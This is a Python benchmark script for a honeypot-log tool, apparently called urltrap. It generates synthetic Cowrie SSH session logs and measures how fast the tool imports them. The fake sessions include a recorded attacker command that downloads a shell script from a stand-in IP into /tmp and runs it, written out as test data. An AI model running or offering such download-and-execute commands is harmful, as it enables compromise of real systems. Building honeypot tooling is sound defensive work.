"""How fast Cowrie's log lines get into the journal. Prints one JSON line.

    python bench/cowrie.py [--lines 500000]

The plain reading of the same lines (`json.loads` alone) stands beside it as the ceiling of one process.
"""

from __future__ import annotations

import argparse
import json
import sys
import tempfile
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from urltrap.exchange.cowrie import CowrieReader, find_logs, lines_of
from urltrap.exchange.importing import Importer
from urltrap.journal import JournalWriter
from urltrap.model.settings import JournalSettings

BEGIN = datetime(2026, 1, 1, tzinfo=UTC)


def made_up_log(path: Path, lines: int) -> None:
    """Visits of eight lines each: connect, version, key exchange, three log-ins, a command, a close."""
    with open(path, "w", encoding="ascii") as file:
        for number in range(lines // 8):
            for place, (kind, fields) in enumerate(_visit(number)):
                at = BEGIN + timedelta(seconds=number, milliseconds=200 * place)
                body = {
                    "eventid": f"cowrie.{kind}", **fields, "sensor": "bench", "session": f"{number:012x}",
                    "timestamp": f"{at:%Y-%m-%dT%H:%M:%S.%f}Z", "src_ip": f"198.18.{number >> 8 & 255}.{number & 255}",
                }  # fmt: skip
                file.write(json.dumps(body) + "\n")


def _visit(number: int) -> list[tuple[str, dict[str, Any]]]:
    return [
        ("session.connect", {"src_port": 4000, "dst_ip": "192.0.2.1", "dst_port": 22, "protocol": "ssh",
                             "message": "New connection: from somewhere to here"}),
        ("client.version", {"version": "SSH-2.0-Go", "message": "Remote SSH version: SSH-2.0-Go"}),
        ("client.kex", {"hassh": "0a" * 16, "hasshAlgorithms": "curve25519-sha256;aes128-ctr;hmac-sha2-256;none"}),
        *[("login.failed", {"username": "root", "password": f"secret{number}{place}", "message": "login attempt"})
          for place in range(3)],
        ("command.input", {"input": f"cd /tmp; wget http://198.51.100.7/{number}.sh; sh {number}.sh"}),
        ("session.closed", {"duration": 4.2, "message": "Connection lost after 4 seconds"}),
    ]  # fmt: skip


def main() -> None:
    """Measure and print."""
    options = argparse.ArgumentParser(description=__doc__)
    options.add_argument("--lines", type=int, default=500_000)
    wanted = options.parse_args()
    with tempfile.TemporaryDirectory() as folder:
        log = Path(folder) / "cowrie.json"
        print("writing the log", file=sys.stderr)
        made_up_log(log, wanted.lines)
        (found,) = find_logs([log])
        begin = time.process_time()
        count = sum(1 for line, _ in lines_of(found) if json.loads(line))
        plain = count / (time.process_time() - begin)
        begin = time.process_time()
        with JournalWriter(Path(folder) / "journal", "bench", JournalSettings()) as journal:
            importer = Importer(CowrieReader(), journal, lambda line, reason: None)
            for line, _ in lines_of(found):
                importer.take(line)
            importer.settle()
        ours = importer.done.lines / (time.process_time() - begin)
    result = {
        "bench": "cowrie", "lines": count, "events": importer.done.events, "bad": importer.done.bad,
        "lines_per_second": round(ours), "json_alone_per_second": round(plain), "bar": 50_000,
    }  # fmt: skip
    print(json.dumps(result))


if __name__ == "__main__":
    main()
